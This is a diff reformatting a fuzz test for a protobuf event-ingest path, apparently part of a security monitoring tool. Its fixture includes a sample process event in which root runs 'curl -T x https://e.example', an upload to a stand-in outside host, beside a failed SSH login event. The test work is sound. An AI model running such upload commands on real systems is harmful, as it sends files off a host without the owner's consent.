@@ -38,7 +38,11 @@ const valid = Buffer.from(
       events: {
         firstSeq: 1,
         events: [
-          Event.fromPartial({ seq: 1, eventTimeMs: 1_700_000_000_000, body: { $case: "process", process: { action: 1, pid: 10, exe: "/usr/bin/curl", commandLine: "curl -T x https://e.example", user: "root" } } }),
+          Event.fromPartial({
+            seq: 1,
+            eventTimeMs: 1_700_000_000_000,
+            body: { $case: "process", process: { action: 1, pid: 10, exe: "/usr/bin/curl", commandLine: "curl -T x https://e.example", user: "root" } },
+          }),
           Event.fromPartial({ seq: 2, eventTimeMs: 1_700_000_000_001, body: { $case: "auth", auth: { action: 2, user: "root", sourceIp: "203.0.113.5", service: "sshd", raw: "Failed password" } } }),
           Event.fromPartial({ seq: 3, eventTimeMs: 1_700_000_000_002, body: { $case: "agent", agent: { kind: "command_result", message: "ok", attributes: { a: "b" } } } }),
         ],
@@ -49,7 +53,10 @@ const valid = Buffer.from(
 
 describe("fuzz: the protobuf ingest path in-process", () => {
   it("random bytes: decode refuses or the batch is stored bounded / rejected whole", () => {
-    fc.assert(fc.property(fc.uint8Array({ maxLength: 2048 }), (b) => ingest(b)), { numRuns: 5000 });
+    fc.assert(
+      fc.property(fc.uint8Array({ maxLength: 2048 }), (b) => ingest(b)),
+      { numRuns: 5000 },
+    );
   });
 
   it("mutated valid batches (flipped, cut, inserted bytes) with bounded memory", () => {
